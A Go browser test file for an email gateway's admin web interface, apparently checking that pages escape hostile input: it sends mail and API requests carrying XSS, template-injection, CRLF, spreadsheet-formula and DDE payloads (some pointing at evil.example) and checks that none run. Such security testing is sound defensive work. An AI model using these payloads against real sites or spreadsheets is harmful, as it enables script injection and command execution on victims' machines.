package browser_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"gatepost/test/browser"
	"gatepost/test/gatepost"
	"gatepost/test/sink"
	"gatepost/test/wire"
)

// world is a gateway that has something of everything, all of it made by strangers who
// want to run, load and send something.
type world struct {
	t    *testing.T
	g    *gatepost.Instance
	sink *sink.Sink
	b    *browser.Browser
	// held, queued and revision are what pages can be opened for.
	held, queued, revision string
}

// attacks are texts that break out of many places; "pwned" is what they set if they run,
// and the class of elements that they would make. None has a line end or a quote that
// SMTP's syntax could not carry in a header.
var attacks = []string{
	`<script>window.pwned=1</script>`,
	`"><img class=pwned src=x onerror="window.pwned=1">`,
	`'><svg class=pwned onload=window.pwned=1>`,
	`</title></textarea></style></script><b class=pwned onmouseover=window.pwned=1>bold</b>`,
	`javascript:window.pwned=1`,
	`<iframe class=pwned srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<a class=pwned href="https://evil.example/x">click</a><base href="https://evil.example/">`,
	`{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} {{.Actor.CSRF}} <%= 7*7 %>`,
	`<div class=pwned hx-get="https://evil.example/" hx-trigger="load" data-confirm="x">x</div>`,
	`=HYPERLINK("https://evil.example/?"&A1;"open")`,
	`+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`,
	"invoice\u202efdp.exe \u2066x\u2069 \u200b\ufeff", "bell\x07 esc\x1b[31m nul-like\x01 del\x7f c1\u0085",
	strings.Repeat("Looong", 60) + " " + strings.Repeat("word ", 100),
	`&lt;script&gt;window.pwned=1&lt;/script&gt; &#x22; ' " \ %00 %0d%0aSet-Cookie:x=1`,
}

// evil is a message that has an attack in every place that a page may show.
func evil(attack string) string {
	return "From: \"" + strings.ReplaceAll(attack, `"`, `\"`) + "\" <eve@out.example>\r\nTo: " + attack + " <ann@in.example>\r\nSubject: keep " + attack + "\r\n" +
		"Message-ID: <" + attack + "@x>\r\nX-Evil: " + attack + "\r\nReply-To: " + attack + "\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>" + attack + "</p><a href='javascript:window.pwned=1'>x</a>" +
		"<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=https://evil.example/><video class=pwned src=https://evil.example/v></video>" +
		"<meta http-equiv=refresh content='0;url=https://evil.example/'><form class=pwned action=https://evil.example/><input></form>\r\n" +
		"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + attack + "\r\n" +
		"--b\r\nContent-Type: application/octet-stream; name=\"" + strings.ReplaceAll(attack, `"`, `\"`) + "\"\r\nContent-Disposition: attachment; filename=\"" +
		strings.ReplaceAll(attack, `"`, `\"`) + "\"\r\nContent-Description: " + attack + "\r\n\r\nx\r\n--b--\r\n"
}

const worldFlows = `
[[filter]]
name = "kept"
when = { subject = 'keep' }
then = "quarantine"

[[flow]]
name = "inbound"
stage = "content"
blocks = [ { use = "authres" }, { use = "script", file = "rules.star", label = "house rules", icon = "🏠" }, { use = "filters" }, { use = "score", mark = 5 } ]

[[flow]]
name = "rcpt"
stage = "recipient"
blocks = [ { use = "greylist", delay = "1h", window = "2h", allow = ["127.0.0.1"] } ]
`

// newGateway is a gateway with a base URL and an hour for digests, which are due at a
// time of day "15:04"; "" for none.
func newGateway(t *testing.T, next, digestAt string) *gatepost.Instance {
	t.Helper()
	more := worldFlows
	if digestAt != "" {
		more += "\n[quarantine]\ndigest = { at = \"" + digestAt + "\", from = \"quarantine@in.example\" }\n"
	}
	g := gatepost.New(t, gatepost.Options{Settings: gatepost.Settings{
		Next: next, Listener: `flows = { recipient = "rcpt", content = "inbound" }`, More: more, Retry: `delays = ["1h"], give_up_after = "5d"`,
	}})
	text := strings.Replace(read(t, g.ConfigFile), "[admin]\n", "[admin]\nbase_url = \"http://"+g.Admin+"\"\n", 1)
	for name, text := range map[string]string{g.ConfigFile: text, filepath.Join(g.Dir, "rules.star"): "def content(m):\n    return None\n"} {
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := g.Start(); err != nil {
		t.Fatal(err)
	}
	return g
}

// newWorld fills a gateway by SMTP, by failed logins and by searches.
func newWorld(t *testing.T) *world {
	t.Helper()
	w := &world{t: t}
	w.sink = sink.Start(t, sink.Options{Script: func(s sink.Step) sink.Reaction {
		if s.Stage == sink.RcptTo && strings.Contains(s.Line, "later@") {
			return sink.Reaction{Reply: `450 4.2.0 "><img class=pwned src=x onerror="window.pwned=1"> try {{again}}`}
		}
		return sink.Reaction{}
	}})
	w.g = newGateway(t, w.sink.Addr, "23:59")
	w.b = browser.Open(t, w.g)
	w.b.SetUp("ada", browser.Password)
	for i, attack := range attacks {
		w.give(i, attack, "ann@in.example", evil(attack))
	}
	w.give(0, attacks[1], "later@in.example", strings.Replace(evil(attacks[1]), "Subject: keep", "Subject: wait", 1))
	w.give(1, attacks[0], `"<script>window.pwned=1</script>"@in.example`, evil(attacks[0]))
	w.delayed()
	w.api("POST", "/api/v1/users", `{"name":"ann","role":"end-user","addresses":["ann@in.example"],"password":"`+browser.Password+`"}`)
	w.api("POST", "/api/v1/queue/pause", `{"domain":"paused.example","reason":"`+strings.ReplaceAll(attacks[1], `"`, `\"`)+`","by":"<b class=pwned>"}`)
	w.settle()
	return w
}

// give sends one message, with attacks in HELO and the sender where SMTP allows them.
func (w *world) give(i int, attack, to, data string) {
	w.t.Helper()
	c, err := wire.Dial(w.g.SMTP, wire.Options{})
	if err != nil {
		w.t.Fatal(err)
	}
	defer c.Quit()
	if _, err := c.Reply(); err != nil {
		w.t.Fatal(err)
	}
	if r, err := c.Cmd("EHLO %s", `<img/src=x/onerror=window.pwned=1>`); err != nil || !r.Positive() {
		if r, err := c.Cmd("EHLO x.out.example"); err != nil || !r.Positive() {
			w.t.Fatal(r, err)
		}
	}
	from := fmt.Sprintf(`"<b class=pwned onclick=window.pwned=1>%d</b>"@out.example`, i)
	if r, err := c.Deliver(from, []string{to}, []byte(data)); err != nil || r.Code != 250 {
		w.t.Fatalf("%.60q: %v, %v", attack, r, err)
	}
}

// delayed has strangers come who are asked to come again.
func (w *world) delayed() {
	w.t.Helper()
	c, _, err := wire.Hello(w.g.SMTP, wire.Options{Source: "127.0.0.7"})
	if err != nil {
		w.t.Fatal(err)
	}
	defer c.Quit()
	for _, cmd := range []string{`MAIL FROM:<"<img class=pwned src=x onerror=window.pwned=1>"@far.example>`, "RCPT TO:<ann@in.example>", "RSET"} {
		if _, err := c.Cmd("%s", cmd); err != nil {
			w.t.Fatal(err)
		}
	}
}

// settle waits until everything is where pages look for it.
func (w *world) settle() {
	w.t.Helper()
	gatepost.Eventually(w.t, "mail is held", 30*time.Second, func() bool {
		list, err := w.g.Quarantine("--recipient", "ann@in.example")
		if err != nil || len(list) < len(attacks) {
			return false
		}
		for _, h := range list {
			if strings.Contains(h.Subject, "onerror") {
				w.held = h.ID
			}
		}
		return w.held != ""
	})
	gatepost.Eventually(w.t, "mail waits", 30*time.Second, func() bool {
		var items []struct {
			QueueID string `json:"queue_id"`
		}
		if err := w.g.Ask(&items, "queue", "list", "--state", "deferred", "--json"); err != nil || len(items) == 0 {
			return false
		}
		w.queued = items[0].QueueID
		return w.queued != ""
	})
	w.revise()
	gatepost.Eventually(w.t, "the history knows of it", 30*time.Second, func() bool {
		var page struct{ Items []json.RawMessage }
		b := w.api("GET", "/api/v1/history?q=kind:message&limit=100", "")
		return json.Unmarshal(b, &page) == nil && bytes.Count(b, []byte(`"id"`)) >= len(attacks)
	})
}

// revise makes a revision of the configuration that has an attack for a reason.
func (w *world) revise() {
	w.t.Helper()
	if out, err := w.g.Run("config", "set", "limits.max_errors", "10", "--why", attacks[1]); err != nil {
		w.t.Fatal(out, err)
	}
	w.revision = "1"
}

// api asks at the unix socket, as the local administrator.
func (w *world) api(method, path, body string) []byte {
	w.t.Helper()
	client := http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DisableKeepAlives: true, DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", w.g.SocketFile)
	}}}
	r, err := http.NewRequestWithContext(w.t.Context(), method, "http://gatepost"+path, strings.NewReader(body))
	if err != nil {
		w.t.Fatal(err)
	}
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	resp, err := client.Do(r)
	if err != nil {
		w.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode/100 != 2 {
		w.t.Fatalf("%s %s: %s %s %v", method, path, resp.Status, b, err)
	}
	return b
}

// notPages are routes of the matrix that answer with no page of the site, or that other
// tests open.
var notPages = []string{
	"/favicon.ico", "/healthz", "/metrics", "/robots.txt", "/static/{version}/{name...}", "/q/{token}", "/setup/{token}",
	"/login/oidc/{name}", "/login/oidc/{name}/back", "/login", "/login/code", "/quarantine/{id}/html", "/overview/chart", "/overview/now", "/overview/tops", "/trace/stream", "/{$}",
}

// pages are the addresses of all pages that a role may see, by the matrix of routes: a
// page that is new is opened as well, or the test says that it does not know how.
func (w *world) pages(role string) []string {
	w.t.Helper()
	places := map[string][]string{
		"/quarantine/{id}": {w.held}, "/quarantine/{id}/download": {w.held}, "/queue/{id}": {w.queued}, "/messages/{id}": {w.held},
		"/users/{name}": {"ann"}, "/config/revisions/{id}": {w.revision},
		"/config/{section}":         {"listener", "domain", "transport", "flow", "filter", "limits", "admin", "quarantine"},
		"/config/{section}/{index}": {"listener/0", "domain/0", "transport/0", "flow/0", "filter/0", "domain/new"},
	}
	searches := map[string]string{"/config/file": "?path=rules.star", "/log": "?q=" + "%22img%22", "/history": "?q=onerror", "/quarantine": "?text=img"}
	var list []string
	for line := range strings.Lines(read(w.t, "../../internal/admin/pages/testdata/matrix")) {
		f := strings.Fields(line)
		if len(f) != 3 || f[0] != "GET" || strings.HasPrefix(f[1], "/api/") || slices.Contains(notPages, f[1]) || !strings.Contains(f[2], role) {
			continue
		}
		path := f[1]
		if q := searches[path]; q != "" {
			list = append(list, path+q)
			if path == "/config/file" {
				continue
			}
		}
		if !strings.Contains(path, "{") {
			list = append(list, path)
			continue
		}
		if places[path] == nil {
			w.t.Errorf("this test does not know what to open %s for: add it to places, or to notPages", path)
		}
		for _, place := range places[path] {
			at := path[:strings.Index(path, "{")] + place
			if i := strings.LastIndex(path, "}"); i < len(path)-1 {
				at += path[i+1:]
			}
			list = append(list, at)
		}
	}
	return list
}
